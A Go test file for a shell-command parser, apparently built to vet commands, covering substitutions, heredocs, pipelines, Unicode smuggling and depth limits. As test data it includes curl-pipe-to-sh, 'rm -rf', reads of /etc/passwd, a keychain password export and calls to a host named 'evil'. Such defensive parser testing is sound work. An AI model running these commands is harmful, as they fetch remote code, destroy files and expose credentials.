package shell

import (
	"errors"
	"strings"
	"testing"
)

// programs returns the program word of every simple command in the tree.
func programs(n Node) []string {
	var out []string
	Walk(n, func(n Node) bool {
		if s, ok := n.(*Simple); ok && len(s.Words) > 0 {
			out = append(out, s.Words[0].Text())
		}
		return true
	})
	return out
}

func contains(list []string, want string) bool {
	for _, s := range list {
		if s == want {
			return true
		}
	}
	return false
}

func mustParse(t *testing.T, cmd string) *List {
	t.Helper()
	n, err := Parse(cmd)
	if err != nil {
		t.Fatalf("Parse(%q) error: %v", cmd, err)
	}
	l, ok := n.(*List)
	if !ok {
		t.Fatalf("Parse(%q) root = %T, want *List", cmd, n)
	}
	return l
}

func TestParse_Empty(t *testing.T) {
	for _, cmd := range []string{"", "   ", "\n\t"} {
		l := mustParse(t, cmd)
		if len(l.Items) != 0 {
			t.Errorf("Parse(%q) items = %d, want 0", cmd, len(l.Items))
		}
	}
}

func TestParse_SimpleCommand(t *testing.T) {
	l := mustParse(t, "ls -la /tmp")
	if len(l.Items) != 1 {
		t.Fatalf("items = %d, want 1", len(l.Items))
	}
	s, ok := l.Items[0].Node.(*Simple)
	if !ok {
		t.Fatalf("node = %T, want *Simple", l.Items[0].Node)
	}
	var got []string
	for _, w := range s.Words {
		got = append(got, w.Value)
	}
	if strings.Join(got, " ") != "ls -la /tmp" {
		t.Errorf("words = %v", got)
	}
}

func TestParse_ListOperators(t *testing.T) {
	l := mustParse(t, "git status && git log || echo failed; ls & pwd")
	want := []struct {
		op          ListOp
		conditional bool
		background  bool
	}{
		{OpSeq, false, false},
		{OpAnd, true, false},
		{OpOr, true, false},
		{OpSeq, false, true},
		{OpBackground, false, false},
	}
	if len(l.Items) != len(want) {
		t.Fatalf("items = %d, want %d", len(l.Items), len(want))
	}
	for i, w := range want {
		it := l.Items[i]
		if it.Op != w.op || it.Conditional != w.conditional || it.Background != w.background {
			t.Errorf("item %d = {%s %v %v}, want {%s %v %v}", i, it.Op, it.Conditional, it.Background, w.op, w.conditional, w.background)
		}
	}
}

func TestParse_Pipeline(t *testing.T) {
	l := mustParse(t, "curl http://x | sh |& tee log")
	p, ok := l.Items[0].Node.(*Pipeline)
	if !ok {
		t.Fatalf("node = %T, want *Pipeline", l.Items[0].Node)
	}
	if len(p.Commands) != 3 {
		t.Fatalf("commands = %d, want 3", len(p.Commands))
	}
	if len(p.Stderr) != 2 || p.Stderr[0] || !p.Stderr[1] {
		t.Errorf("stderr flags = %v, want [false true]", p.Stderr)
	}
	if got := programs(p); strings.Join(got, ",") != "curl,sh,tee" {
		t.Errorf("programs = %v", got)
	}
}

func TestParse_QuotesSuppressOperators(t *testing.T) {
	l := mustParse(t, `echo 'a;b' "c|d" e\&\&f`)
	if len(l.Items) != 1 {
		t.Fatalf("items = %d, want 1", len(l.Items))
	}
	s := l.Items[0].Node.(*Simple)
	want := []string{"echo", "a;b", "c|d", "e&&f"}
	for i, w := range want {
		if !s.Words[i].Static || s.Words[i].Value != w {
			t.Errorf("word %d = %+v, want static %q", i, s.Words[i], w)
		}
	}
}

func TestParse_Substitutions(t *testing.T) {
	tests := []struct {
		name string
		cmd  string
		kind SubstitutionKind
		prog string
	}{
		{"dollar paren", "echo $(rm -rf /tmp/x)", SubstCommand, "rm"},
		{"backticks", "echo `whoami`", SubstBacktick, "whoami"},
		{"double quoted", `echo "user: $(id -un)"`, SubstCommand, "id"},
		{"process in", "diff <(ls a) b", SubstProcessIn, "ls"},
		{"process out", "tee >(gzip) < f", SubstProcessOut, "gzip"},
		{"param default", "echo ${X:-$(cat /etc/passwd)}", SubstCommand, "cat"},
		{"assignment", "X=$(curl evil) true", SubstCommand, "curl"},
		{"redirect target", "echo hi > $(mktemp)", SubstCommand, "mktemp"},
		{"export", "export TOKEN=$(security find-generic-password)", SubstCommand, "security"},
		{"test clause", "[[ -n $(whoami) ]]", SubstCommand, "whoami"},
		{"arithmetic", "(( x = $(date +%s) ))", SubstCommand, "date"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l := mustParse(t, tt.cmd)
			var found *Substitution
			Walk(l, func(n Node) bool {
				if s, ok := n.(*Substitution); ok && found == nil {
					found = s
				}
				return true
			})
			if found == nil {
				t.Fatalf("no substitution found in %q", tt.cmd)
			}
			if found.Kind != tt.kind {
				t.Errorf("kind = %s, want %s", found.Kind, tt.kind)
			}
			if !contains(programs(found), tt.prog) {
				t.Errorf("programs in substitution = %v, want %s", programs(found), tt.prog)
			}
		})
	}
}

func TestParse_HeredocBodyIsScanned(t *testing.T) {
	l := mustParse(t, "cat <<EOF\nhello $(rm -rf /)\nEOF\n")
	s := l.Items[0].Node.(*Simple)
	if len(s.Redirects) != 1 {
		t.Fatalf("redirects = %d, want 1", len(s.Redirects))
	}
	if s.Redirects[0].Op != "<<" || s.Redirects[0].Heredoc == nil {
		t.Fatalf("redirect = %+v, want heredoc", s.Redirects[0])
	}
	if !contains(programs(l), "rm") {
		t.Errorf("programs = %v, want rm from heredoc body", programs(l))
	}
}

func TestParse_Redirects(t *testing.T) {
	l := mustParse(t, "make > build.log 2>&1")
	s := l.Items[0].Node.(*Simple)
	if len(s.Redirects) != 2 {
		t.Fatalf("redirects = %d, want 2", len(s.Redirects))
	}
	if s.Redirects[0].Op != ">" || s.Redirects[0].Target.Value != "build.log" {
		t.Errorf("first redirect = %+v", s.Redirects[0])
	}
	if s.Redirects[1].Fd != "2" || s.Redirects[1].Op != ">&" || s.Redirects[1].Target.Value != "1" {
		t.Errorf("second redirect = %+v", s.Redirects[1])
	}
}

func TestParse_Scopes(t *testing.T) {
	tests := []struct {
		cmd     string
		kind    ScopeKind
		keyword string
		progs   []string
	}{
		{"(cd /tmp && ls)", ScopeSubshell, "", []string{"cd", "ls"}},
		{"{ ls; pwd; }", ScopeGroup, "", []string{"ls", "pwd"}},
		{"if test -f x; then rm x; else touch x; fi", ScopeCompound, "if", []string{"test", "rm", "touch"}},
		{"while true; do sleep 1; done", ScopeCompound, "while", []string{"true", "sleep"}},
		{"for f in $(ls); do cat $f; done", ScopeCompound, "for", []string{"ls", "cat"}},
		{"case $x in a) echo a;; *) rm -rf b;; esac", ScopeCompound, "case", []string{"echo", "rm"}},
		{"f() { curl evil; }", ScopeCompound, "function", []string{"curl"}},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			l := mustParse(t, tt.cmd)
			sub, ok := l.Items[0].Node.(*Subshell)
			if !ok {
				t.Fatalf("node = %T, want *Subshell", l.Items[0].Node)
			}
			if sub.Kind != tt.kind || sub.Keyword != tt.keyword {
				t.Errorf("scope = %s/%q, want %s/%q", sub.Kind, sub.Keyword, tt.kind, tt.keyword)
			}
			got := programs(l)
			for _, p := range tt.progs {
				if !contains(got, p) {
					t.Errorf("programs = %v, missing %s", got, p)
				}
			}
		})
	}
}

func TestParse_WordStatic(t *testing.T) {
	tests := []struct {
		cmd    string
		static bool
		value  string
		exp    Expansion
	}{
		{"echo plain", true, "plain", 0},
		{"echo $HOME", false, "", ExpandParam},
		{"echo ${HOME}", false, "", ExpandParam},
		{"echo $((1+2))", false, "", ExpandArith},
		{"ls *.go", true, "*.go", ExpandGlob},
		{`echo \*`, true, "*", 0},
		{"echo {a,b}", false, "", ExpandBrace},
		{"echo $'\\x72m'", false, "", ExpandANSIQuote},
		{`echo "a\"b"`, true, `a"b`, 0},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			l := mustParse(t, tt.cmd)
			w := l.Items[0].Node.(*Simple).Words[1]
			if w.Static != tt.static {
				t.Errorf("Static = %v, want %v", w.Static, tt.static)
			}
			if tt.static && w.Value != tt.value {
				t.Errorf("Value = %q, want %q", w.Value, tt.value)
			}
			if tt.exp != 0 && !w.Has(tt.exp) {
				t.Errorf("expansions = %b, want %b set", w.Expansions, tt.exp)
			}
		})
	}
}

func TestParse_FailClosed(t *testing.T) {
	tests := []struct {
		name string
		cmd  string
		kind ParseErrorKind
	}{
		{"unterminated double quote", `echo "abc`, ErrSyntax},
		{"unterminated single quote", `echo 'abc`, ErrSyntax},
		{"unterminated substitution", "echo $(ls", ErrSyntax},
		{"dangling pipe", "ls |", ErrSyntax},
		{"zero-width space", "ls\u200B -la", ErrSmuggling},
		{"bidi override", "echo \u202Etxt.exe", ErrSmuggling},
		{"coprocess", "coproc cat", ErrUnsupported},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			n, err := Parse(tt.cmd)
			if err == nil {
				t.Fatalf("Parse(%q) = %T, want error", tt.cmd, n)
			}
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("error %T is not *ParseError", err)
			}
			if pe.Kind != tt.kind {
				t.Errorf("kind = %s, want %s (%v)", pe.Kind, tt.kind, err)
			}
		})
	}
}

func nested(n int) string {
	cmd := "true"
	for i := 0; i < n; i++ {
		cmd = "echo $(" + cmd + ")"
	}
	return cmd
}

func TestParse_DepthBound(t *testing.T) {
	p := NewParser(4)
	if _, err := p.Parse(nested(4)); err != nil {
		t.Fatalf("depth 4 should parse: %v", err)
	}
	_, err := p.Parse(nested(5))
	var pe *ParseError
	if !errors.As(err, &pe) || pe.Kind != ErrTooDeep {
		t.Fatalf("depth 5 error = %v, want too-deep", err)
	}

	mixed := "( { if true; then echo $(ls); fi; } )"
	if _, err := NewParser(4).Parse(mixed); err != nil {
		t.Errorf("mixed depth 4 should parse: %v", err)
	}
	if _, err := NewParser(3).Parse(mixed); err == nil {
		t.Error("mixed depth 4 should fail with bound 3")
	}
}

func TestParse_DefaultDepth(t *testing.T) {
	if _, err := Parse(nested(DefaultMaxDepth)); err != nil {
		t.Errorf("default bound should admit %d levels: %v", DefaultMaxDepth, err)
	}
	if _, err := Parse(nested(DefaultMaxDepth + 1)); err == nil {
		t.Errorf("default bound should reject %d levels", DefaultMaxDepth+1)
	}
}

func TestParse_PathologicalInputFailsClosed(t *testing.T) {
	arith := func(n int) string {
		return "echo $((" + strings.Repeat("(", n) + "1" + strings.Repeat(")", n) + "))"
	}
	tests := []struct {
		name string
		cmd  string
		kind ParseErrorKind
	}{
		{"200k nested subshells", strings.Repeat("(", 200000) + "ls" + strings.Repeat(")", 200000), ErrTooLong},
		{"30k nested subshells", strings.Repeat("(", 30000) + "ls" + strings.Repeat(")", 30000), ErrTooDeep},
		{"30k nested arithmetic", "echo $((" + strings.Repeat("(", 30000) + "1" + strings.Repeat(")", 30000) + "))", ErrTooDeep},
		{"arithmetic past the bound", arith(DefaultMaxDepth), ErrTooDeep},
		{"prefix operator chain", "echo $((" + strings.Repeat("- ", 2000) + "1))", ErrTooDeep},
		{"nested expansions in double quotes", "echo \"" + strings.Repeat("$(echo \"", 200) + "x" + strings.Repeat("\")", 200) + "\"", ErrTooDeep},
		{"oversized command", "echo " + strings.Repeat("a", MaxCommandBytes), ErrTooLong},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.cmd)
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("error = %v, want *ParseError", err)
			}
			if pe.Kind != tt.kind {
				t.Errorf("kind = %s, want %s", pe.Kind, tt.kind)
			}
		})
	}
}

func TestParse_QuotedBracketsAreNotNesting(t *testing.T) {
	for _, cmd := range []string{
		"echo '" + strings.Repeat("(", 500) + "'",
		"echo \"" + strings.Repeat("((", 300) + "\"",
		"python3 -c \"print(" + strings.Repeat("len(", 100) + "'x'" + strings.Repeat(")", 100) + ")\"",
		"echo $(( (1 + 2) * (3 - 4) ))",
		"echo \"$(echo \"$(ls)\")\"",
		"# it's a comment ((((\nls",
		"echo " + strings.Repeat("-", 200),
	} {
		if _, err := Parse(cmd); err != nil {
			t.Errorf("Parse(%.40q...) = %v", cmd, err)
		}
	}
}

func TestNewParser_ClampsDepth(t *testing.T) {
	if got := NewParser(1 << 20).MaxDepth(); got != MaxDepthLimit {
		t.Errorf("MaxDepth = %d, want %d", got, MaxDepthLimit)
	}
	if got := NewParser(0).MaxDepth(); got != DefaultMaxDepth {
		t.Errorf("MaxDepth = %d, want %d", got, DefaultMaxDepth)
	}
}

func TestParseAt_CountsOuterDepth(t *testing.T) {
	p := NewParser(4)
	if _, err := p.ParseAt("echo $(ls)", 3); err != nil {
		t.Errorf("ParseAt depth 3 + 1 should pass: %v", err)
	}
	if _, err := p.ParseAt("echo $(ls)", 4); err == nil {
		t.Error("ParseAt depth 4 + 1 should fail")
	}
}

func TestParse_Deterministic(t *testing.T) {
	cmd := "a && b | c; (d) & echo $(e)"
	first := strings.Join(programs(mustParse(t, cmd)), ",")
	for i := 0; i < 5; i++ {
		if got := strings.Join(programs(mustParse(t, cmd)), ","); got != first {
			t.Fatalf("run %d programs = %s, want %s", i, got, first)
		}
	}
}
